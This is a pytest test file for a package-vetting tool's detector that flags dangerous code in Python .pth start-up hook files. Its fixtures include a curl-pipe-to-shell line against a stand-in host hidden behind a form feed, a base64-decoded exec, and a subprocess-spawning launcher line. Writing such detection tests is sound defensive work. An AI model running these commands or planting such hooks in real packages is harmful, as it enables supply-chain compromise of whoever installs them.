"""The .pth start-up hook rules."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from depvet.detectors.pth import DANGEROUS_CODE, EXECUTABLE_LINE, PthDetector, executable_lines
from depvet.files import FileRole, FileView
from depvet.model import EVIDENCE_MAX, Finding, RuleKind, Severity
from tests.builders import LITELLM_PTH_LINE
from tests.detectors.fixtures import BENIGN_PTH, DANGEROUS_PTH, pth

DETECTOR = PthDetector()


def _scan(file: FileView) -> list[Finding]:
    assert DETECTOR.wants(file)
    return list(DETECTOR.scan(file))


def _dangerous(file: FileView) -> list[Finding]:
    return [f for f in _scan(file) if f.rule == DANGEROUS_CODE.id]


def test_rule_metadata() -> None:
    assert {r.id for r in DETECTOR.rules} == {"pth-executable-line", "pth-dangerous-code"}
    assert EXECUTABLE_LINE.kind is RuleKind.CAPABILITY and EXECUTABLE_LINE.severity is Severity.LOW
    assert DANGEROUS_CODE.kind is RuleKind.THREAT and DANGEROUS_CODE.severity is Severity.CRITICAL


@pytest.mark.parametrize("role", [r for r in FileRole if r is not FileRole.PTH])
def test_wants_only_pth_role(role: FileRole) -> None:
    assert not DETECTOR.wants(FileView(path="x.pth", role=role, data=LITELLM_PTH_LINE.encode()))


def test_litellm_launcher() -> None:
    findings = _scan(pth("/opt/lib\n\n" + LITELLM_PTH_LINE, "litellm_init.pth"))
    by_rule = {f.rule: f for f in findings}
    assert set(by_rule) == {EXECUTABLE_LINE.id, DANGEROUS_CODE.id}
    danger = by_rule[DANGEROUS_CODE.id]
    assert danger.line == 3
    assert danger.path == "litellm_init.pth"
    assert danger.severity is Severity.CRITICAL and danger.kind is RuleKind.THREAT
    assert "subprocess.Popen" in danger.message
    assert "sys.executable" in danger.message
    assert danger.evidence.startswith("import os, subprocess, sys; subprocess.Popen(")
    assert len(danger.evidence) <= EVIDENCE_MAX


def test_long_line_evidence_is_truncated() -> None:
    line = "import os; os.system('" + "A" * 5000 + "')\n"
    (finding,) = _dangerous(pth(line))
    assert len(finding.evidence) == EVIDENCE_MAX
    assert finding.evidence.endswith("…")


@pytest.mark.parametrize("name", sorted(BENIGN_PTH))
def test_benign_lines_are_not_dangerous(name: str) -> None:
    assert _dangerous(BENIGN_PTH[name]) == []


@pytest.mark.parametrize("name", sorted(DANGEROUS_PTH))
def test_dangerous_lines(name: str) -> None:
    assert len(_dangerous(DANGEROUS_PTH[name])) == 1


def test_executable_line_reported_once_per_file() -> None:
    findings = _scan(pth("import a\n/opt\nimport b\nimport c\n"))
    assert [(f.rule, f.line) for f in findings] == [(EXECUTABLE_LINE.id, 1)]
    assert findings[0].message.startswith("3 line(s)")


def test_path_only_file_has_no_findings() -> None:
    assert _scan(BENIGN_PTH["paths"]) == []
    assert _scan(pth("")) == []


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("import os\n", [1]),
        ("import\tos\n", [1]),
        (" import os\n", []),  # site.py does not strip: this is a path
        ("#import os\n", []),
        ("importlib\n", []),
        ("Import os\n", []),
        ("/a\r/b\rimport os\r", [3]),  # old Mac newlines split lines too
        ("/a\r\nimport os\r\n", [2]),
        ("\ufeffimport os\n", [1]),  # 3.13 strips a BOM
        ("/a\x0cimport os\n", [1]),  # 3.13 splitlines() splits on form feed
    ],
)
def test_executable_lines_follow_site(text: str, expected: list[int]) -> None:
    assert [n for n, _ in executable_lines(text)] == expected


def test_form_feed_hidden_line_is_analysed() -> None:
    file = pth("/a\x0cimport os; os.system('curl https://x.example.invalid | sh')\n")
    (finding,) = _dangerous(file)
    assert finding.line == 1
    assert "os.system" in finding.message


def test_unparsable_line_falls_back_to_text() -> None:
    (finding,) = _dangerous(DANGEROUS_PTH["truncated"])
    assert "did not parse" in finding.message
    assert "spawns a process" in finding.message


def test_unparsable_harmless_line_is_not_dangerous() -> None:
    assert _dangerous(pth("import foo bar baz\n")) == []


def test_huge_file_uses_text_checks_only() -> None:
    padding = "# " + "x" * 100 + "\n"
    text = padding * 60_000 + "import os; os.system('true')\n"
    assert len(text) > 5 * 1024 * 1024
    (finding,) = _dangerous(pth(text))
    assert finding.line == 60_001
    assert "did not parse" in finding.message


def test_code_inside_string_literal() -> None:
    line = "import sys; sys.argv.append(\"exec(__import__('base64').b64decode('x'))\")\n"
    (finding,) = _dangerous(pth(line))
    assert "string literal" in finding.message


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=300))
def test_never_raises_on_bytes(data: bytes) -> None:
    for finding in _scan(FileView(path="x.pth", role=FileRole.PTH, data=b"import " + data)):
        assert finding.line is not None and finding.line >= 1


@settings(max_examples=200, deadline=None)
@given(st.lists(st.from_regex(r"[/a-zA-Z0-9_.\-]{1,30}", fullmatch=True), max_size=10))
def test_path_lines_never_match(lines: list[str]) -> None:
    lines = [line for line in lines if not line.startswith("import")]
    assert _scan(pth("\n".join(lines) + "\n")) == []
